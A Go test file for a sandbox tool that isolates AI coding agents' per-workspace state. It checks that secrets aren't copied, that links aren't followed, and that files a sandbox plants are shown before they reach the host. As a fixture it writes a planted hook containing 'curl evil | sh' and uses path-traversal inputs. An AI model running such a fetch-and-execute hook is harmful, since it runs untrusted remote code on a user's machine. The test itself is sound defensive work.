package agentprofile

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/paddock-sandbox/paddock"
)

// A place has a home, a workspace and a directory of states.
type place struct{ dir, home, work string }

func newPlace(t *testing.T, files map[string]string) place {
	t.Helper()
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	p := place{filepath.Join(top, "data", "agents"), filepath.Join(top, "home"), filepath.Join(top, "work")}
	for _, dir := range []string{p.home, p.work} {
		if err := os.Mkdir(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range files {
		save(t, filepath.Join(p.home, name), text)
	}
	return p
}

func save(t *testing.T, at, text string) {
	t.Helper()
	if err := errors.Join(os.MkdirAll(filepath.Dir(at), 0o700), os.WriteFile(at, []byte(text), 0o600)); err != nil {
		t.Fatal(err)
	}
}

func load(t *testing.T, at string) string {
	t.Helper()
	data, err := os.ReadFile(at)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

const fake = `version: 1
name: fake
title: Fake
program: [fake]
state:
  keep: [~/.fake]
  copy:
    - from: ~/.fake/rules
    - {from: ~/.fake/settings.json, keys: [theme, model]}
  obeyed: [~/.fake/rules, ~/.fake/settings.json, ~/.fake/hooks]
first_run:
  - {file: ~/.fake/settings.json, json: '{"theme": "dark", "trusted": {"{workspace}": true}}'}
  - {file: ~/.fake/keys.json, json: '{"approved": ["{ends}"]}'}
`

func fakeProfile(t *testing.T) *Profile {
	t.Helper()
	p, err := Read("fake.yaml", []byte(fake))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func (p place) open(t *testing.T) *Home {
	t.Helper()
	s, err := Open(p.dir, p.home, p.work, fakeProfile(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

func TestANewStateHasSettingsAndNoCredentials(t *testing.T) {
	p := newPlace(t, map[string]string{
		".fake/settings.json": `{"env": {"KEY": "s3cret"}, "theme": "light"}`, ".fake/rules/a.md": "a", ".fake/rules/auth.json": "s3cret",
		".fake/sessions/x": "s3cret", ".ssh/id": "s3cret",
	})
	if err := os.Symlink("../../.ssh/id", filepath.Join(p.home, ".fake/rules/link.md")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(p.home, ".fake/rules/pipe"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := p.open(t)
	if !s.New || !strings.Contains(strings.Join(s.Notes, "\n"), "link.md is a link") {
		t.Errorf("new: %v, notes %q", s.New, s.Notes)
	}
	m := s.Mounts(fakeProfile(t))
	if len(m) != 1 || m[0].Target != "~/.fake" || !m[0].Write || !m[0].Cache || !strings.HasPrefix(m[0].Source, p.dir+"/") {
		t.Fatalf("%+v", m)
	}
	if got := load(t, filepath.Join(m[0].Source, "rules/a.md")); got != "a" {
		t.Errorf("rules/a.md has %q", got)
	}
	settings := load(t, filepath.Join(m[0].Source, "settings.json"))
	if !strings.Contains(settings, `"light"`) || !strings.Contains(settings, `"`+p.work+`": true`) {
		t.Errorf("settings: %s", settings)
	}
	err := filepath.WalkDir(p.dir, func(at string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		if strings.Contains(load(t, at), "s3cret") {
			t.Errorf("%s has a secret", at)
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
	if st, err := os.Stat(p.dir); err != nil || st.Mode().Perm() != 0o700 {
		t.Errorf("the directory of states: %v, %v", st.Mode(), err)
	}
}

func TestAStateStaysForItsDirectoryAlone(t *testing.T) {
	p := newPlace(t, nil)
	s := p.open(t)
	kept := filepath.Join(s.Mounts(fakeProfile(t))[0].Source, "sessions/1")
	save(t, kept, "x")
	if again := p.open(t); again.New || again.ID != s.ID {
		t.Errorf("the second has %s, new %v", again.ID, again.New)
	}
	if load(t, kept) != "x" {
		t.Error("the session is gone")
	}
	// Another directory at the same path is another project.
	if err := errors.Join(os.Rename(p.work, p.work+".old"), os.Mkdir(p.work, 0o755)); err != nil {
		t.Fatal(err)
	}
	other := p.open(t)
	if other.ID == s.ID || !other.New {
		t.Errorf("another directory has the same state, %s", other.ID)
	}
	list, err := List(p.dir)
	if err != nil || len(list) != 2 {
		t.Fatalf("%+v, %v", list, err)
	}
	for _, e := range list {
		if e.Workspace != p.work || e.Agent != "fake" || e.Gone != (e.ID == s.ID) {
			t.Errorf("%+v", e)
		}
	}
	if err := Reset(p.dir, s.ID); !errors.Is(err, paddock.Conflict) {
		t.Errorf("a state in use: %v", err)
	}
	s.Close()
	if again := p.open(t); again.ID != other.ID {
		t.Error(again.ID)
	}
}

func TestResetRemovesAStateAndFollowsNoLink(t *testing.T) {
	p := newPlace(t, map[string]string{"precious": "x"})
	s := p.open(t)
	at := s.Mounts(fakeProfile(t))[0].Source
	if err := errors.Join(os.Symlink(p.home, filepath.Join(at, "link")), os.Mkdir(filepath.Join(at, "closed"), 0)); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := Reset(p.dir, s.ID); err != nil {
		t.Fatal(err)
	}
	if load(t, filepath.Join(p.home, "precious")) != "x" {
		t.Error("it followed a link")
	}
	if left, err := os.ReadDir(p.dir); err != nil || len(left) > 0 {
		t.Errorf("%v are left, %v", left, err)
	}
	if again := p.open(t); !again.New {
		t.Error("after it, the state is not new")
	}
	for _, bad := range []string{s.ID + "0", "", "..", "../x", "fake", "approved", "fake-0123"} {
		if err := Reset(p.dir, bad); !errors.Is(err, paddock.NotFound) {
			t.Errorf("%q: %v", bad, err)
		}
	}
}

func TestWhatASandboxPlantsIsShownAndNothingIsFollowed(t *testing.T) {
	p := newPlace(t, map[string]string{".fake/rules/a.md": "a\n", ".ssh/id": "s3cret"})
	s := p.open(t)
	at := s.Mounts(fakeProfile(t))[0].Source
	save(t, filepath.Join(at, "hooks/start.sh"), "curl evil | sh\n")
	save(t, filepath.Join(at, "sessions/1"), "x")
	if err := errors.Join(os.Remove(filepath.Join(at, "rules/a.md")), os.Symlink(filepath.Join(p.home, ".ssh/id"), filepath.Join(at, "rules/a.md")),
		syscall.Mkfifo(filepath.Join(at, "rules/pipe"), 0o600), os.Chmod(filepath.Join(at, "hooks/start.sh"), 0o700)); err != nil {
		t.Fatal(err)
	}
	sum, err := Changes(p.dir, s.ID, fakeProfile(t))
	if err != nil {
		t.Fatal(err)
	}
	list, notes := sum.List, sum.Notes
	for i := range list {
		if err := list[i].Read(); err != nil {
			t.Error(err)
		}
	}
	if len(list) != 2 || list[0].Name != ".fake/hooks/start.sh" || !list[0].Exec || list[1].Name != ".fake/rules/a.md" || list[1].After != nil {
		t.Errorf("%+v", list)
	}
	if len(list) > 0 && string(list[0].After) != "curl evil | sh\n" {
		t.Errorf("the hook is %q", list[0].After)
	}
	for _, c := range list {
		if strings.Contains(string(c.After), "s3cret") {
			t.Error("it followed a link")
		}
	}
	if !strings.Contains(strings.Join(notes, "\n"), "rules/a.md is a link") || !strings.Contains(strings.Join(notes, "\n"), "rules/pipe is no file") {
		t.Errorf("notes %q", notes)
	}
}

func TestTakeMakesOneChangeOnTheHost(t *testing.T) {
	p := newPlace(t, map[string]string{".fake/rules/a.md": "a\n", ".fake/settings.json": `{"env": {"KEY": "mine"}, "theme": "light", "model": "m"}`})
	s := p.open(t)
	at := s.Mounts(fakeProfile(t))[0].Source
	save(t, filepath.Join(at, "rules/a.md"), "b\n")
	save(t, filepath.Join(at, "rules/new.md"), "n\n")
	settings := strings.Replace(load(t, filepath.Join(at, "settings.json")), `"light"`, `"blue"`, 1)
	save(t, filepath.Join(at, "settings.json"), settings)
	take := func(name string) error {
		t.Helper()
		sum, err := Changes(p.dir, s.ID, fakeProfile(t))
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range sum.List {
			if c.Name == name {
				return Take(p.dir, s.ID, p.home, c)
			}
		}
		t.Fatalf("%s did not change: %+v", name, sum)
		return nil
	}
	for _, name := range []string{".fake/rules/a.md", ".fake/rules/new.md", ".fake/settings.json"} {
		if err := take(name); err != nil {
			t.Error(err)
		}
	}
	if got := load(t, filepath.Join(p.home, ".fake/rules/a.md")) + load(t, filepath.Join(p.home, ".fake/rules/new.md")); got != "b\nn\n" {
		t.Errorf("%q", got)
	}
	if got := load(t, filepath.Join(p.home, ".fake/settings.json")); !strings.Contains(got, `"mine"`) || !strings.Contains(got, `"blue"`) || strings.Contains(got, "trusted") {
		t.Errorf("settings: %s", got)
	}
	if sum, err := Changes(p.dir, s.ID, fakeProfile(t)); err != nil || len(sum.List) > 0 {
		t.Errorf("afterwards: %+v, %v", sum, err)
	}
	// What changed on both sides is left as it is, and so is what a link leads to.
	save(t, filepath.Join(at, "rules/a.md"), "c\n")
	save(t, filepath.Join(p.home, ".fake/rules/a.md"), "mine\n")
	if err := take(".fake/rules/a.md"); !errors.Is(err, paddock.Conflict) || load(t, filepath.Join(p.home, ".fake/rules/a.md")) != "mine\n" {
		t.Errorf("%v", err)
	}
	save(t, filepath.Join(p.home, "elsewhere/keep"), "x")
	if err := os.Symlink(filepath.Join(p.home, "elsewhere"), filepath.Join(p.home, ".fake/hooks")); err != nil {
		t.Fatal(err)
	}
	save(t, filepath.Join(at, "hooks/h"), "evil\n")
	if err := take(".fake/hooks/h"); !errors.Is(err, paddock.Denied) {
		t.Errorf("through a link: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(p.home, "elsewhere/h")); err == nil {
		t.Error("it followed a link")
	}
}

func TestPutReplacesALinkThatASandboxLeft(t *testing.T) {
	p := newPlace(t, map[string]string{"precious": "x"})
	s := p.open(t)
	at := s.Mounts(fakeProfile(t))[0].Source
	if err := errors.Join(os.Symlink(filepath.Join(p.home, "precious"), filepath.Join(at, "token.json")), os.Symlink(p.home, filepath.Join(at, "below"))); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(".fake/token.json", []byte("placeholder")); err != nil {
		t.Error(err)
	}
	if got := load(t, filepath.Join(at, "token.json")); got != "placeholder" || load(t, filepath.Join(p.home, "precious")) != "x" {
		t.Errorf("%q", got)
	}
	for _, bad := range []string{".fake/below/precious", "../x", "/x"} {
		if err := s.Put(bad, []byte("evil")); err == nil {
			t.Errorf("%s was written", bad)
		}
	}
}

func TestAProjectCountsOnlyAsItWasApproved(t *testing.T) {
	p := newPlace(t, nil)
	file := filepath.Join(p.work, ProjectFile)
	if data, err := OpenProject(p.work); data != nil || err != nil {
		t.Error(data, err)
	}
	save(t, file, "version: 1\nagents:\n  fake:\n    allow: [a.example]\n    args:\n      - {add: [-x], says: x on}\n")
	data, err := OpenProject(p.work)
	if err != nil {
		t.Fatal(err)
	}
	if Approved(p.dir, p.work, data) {
		t.Error("it is approved from the beginning")
	}
	if err := Approve(p.dir, p.work, data); err != nil {
		t.Fatal(err)
	}
	if !Approved(p.dir, p.work, data) || Approved(p.dir, p.work, append(data, ' ')) || Approved(p.dir, p.home, data) {
		t.Error("it is not approved for these contents in this directory alone")
	}
	add, err := ReadProject(ProjectFile, data)
	if err != nil {
		t.Fatal(err)
	}
	sum := fakeProfile(t).Add(add)
	if len(sum.Allow) != 1 || len(sum.Args) != 1 || len(fakeProfile(t).Allow) != 0 {
		t.Errorf("%+v", sum)
	}
	for _, text := range []string{"version: 1\nagents:\n  fake:\n    program: [evil]\n", "version: 1\nagents:\n  fake:\n    keys: [{variable: K, hosts: [evil.example]}]\n",
		"version: 1\nagents:\n  fake:\n    state: {keep: [~/.x]}\n", "version: 1\nagents:\n  fake:\n    env:\n      - set: {NODE_OPTIONS: x}\n"} {
		if _, err := ReadProject("p", []byte(text)); !errors.Is(err, paddock.Invalid) || !strings.HasPrefix(err.Error(), "p:") {
			t.Errorf("%q: %v", text, err)
		}
	}
	if err := errors.Join(os.Remove(file), os.Symlink(filepath.Join(p.home, "x"), file)); err != nil {
		t.Fatal(err)
	}
	if _, err := OpenProject(p.work); !errors.Is(err, paddock.Denied) {
		t.Errorf("a link: %v", err)
	}
	if err := errors.Join(os.Remove(file), syscall.Mkfifo(file, 0o600)); err != nil {
		t.Fatal(err)
	}
	if _, err := OpenProject(p.work); !errors.Is(err, paddock.Denied) {
		t.Errorf("a FIFO: %v", err)
	}
}

func TestAProgramOfTheWorkspaceIsRefused(t *testing.T) {
	p := newPlace(t, nil)
	bin, packages := filepath.Join(p.home, "bin"), filepath.Join(p.home, "x/lib/node_modules")
	for _, at := range []string{filepath.Join(p.work, "node_modules/.bin/fake"), filepath.Join(packages, "@fake/fake/cli.js")} {
		save(t, at, "#!/bin/sh\n")
		if err := os.Chmod(at, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	save(t, filepath.Join(packages, "@fake/fake/package.json"), `{"name": "@fake/fake", "version": "1.2.3"}`)
	if err := errors.Join(os.Mkdir(bin, 0o755), os.Symlink(filepath.Join(packages, "@fake/fake/cli.js"), filepath.Join(bin, "fake"))); err != nil {
		t.Fatal(err)
	}
	own := fakeProfile(t)
	if _, err := FindProgram(own, filepath.Join(p.work, "node_modules/.bin")+":"+bin, "/nowhere", p.work); !errors.Is(err, paddock.Denied) {
		t.Errorf("that of the project: %v", err)
	}
	if _, err := FindProgram(own, "node_modules/.bin:.", "/nowhere", p.work); !errors.Is(err, paddock.NotFound) {
		t.Errorf("relative directories: %v", err)
	}
	got, err := FindProgram(own, bin, "/nowhere", p.work)
	if err != nil {
		t.Fatal(err)
	}
	if got.Show != packages || got.Run != filepath.Join(packages, "@fake/fake/cli.js") || got.Version() != "1.2.3" {
		t.Errorf("%+v, version %q", got, got.Version())
	}
}

// Settings that a sandbox wrote are merged into those of the host.
func FuzzOntoKeys(f *testing.F) {
	f.Add([]byte(`{"a": 1, "b": {"c": 2}}`), []byte(`{"a": 1}`), []byte(`{"a": 2, "x": []}`))
	f.Add([]byte(`{}`), []byte(`{"a": 1}`), []byte(`{"a": 1, "a": 2}`))
	f.Fuzz(func(t *testing.T, host, before, after []byte) {
		c := Change{Before: before, After: after, keys: true}
		got, err := c.ontoKeys(host)
		if err != nil {
			return
		}
		members, err := parseObject(got)
		if err != nil {
			t.Fatalf("%q: %v", got, err)
		}
		for _, m := range members {
			inHost, _ := parseObject(host)
			inAfter, _ := parseObject(after)
			has := false
			for _, list := range [][]member{inHost, inAfter} {
				for _, o := range list {
					has = has || o.key == m.key && string(compact(o)) == string(compact(m))
				}
			}
			if !has {
				t.Errorf("%s is of neither side", m.key)
			}
		}
	})
}

// What placeholders end with is the same at each start, stands in the file that says so, and is another one elsewhere.
func TestPlaceholdersEndAlikeInOneStateAlone(t *testing.T) {
	p, other := newPlace(t, nil), newPlace(t, nil)
	first := p.open(t)
	if len(first.Ends) != 20 || strings.Trim(first.Ends, "abcdefghijklmnopqrstuvwxyz0123456789") != "" {
		t.Errorf("placeholders end with %q", first.Ends)
	}
	if again := p.open(t); again.Ends != first.Ends {
		t.Errorf("then they end with %q, after %q", again.Ends, first.Ends)
	}
	if text := load(t, filepath.Join(p.dir, first.ID, "home", ".fake", "keys.json")); !strings.Contains(text, `"`+first.Ends+`"`) {
		t.Errorf("the file is %s", text)
	}
	if there := other.open(t); there.Ends == first.Ends {
		t.Errorf("elsewhere they end with %q too", there.Ends)
	}
}
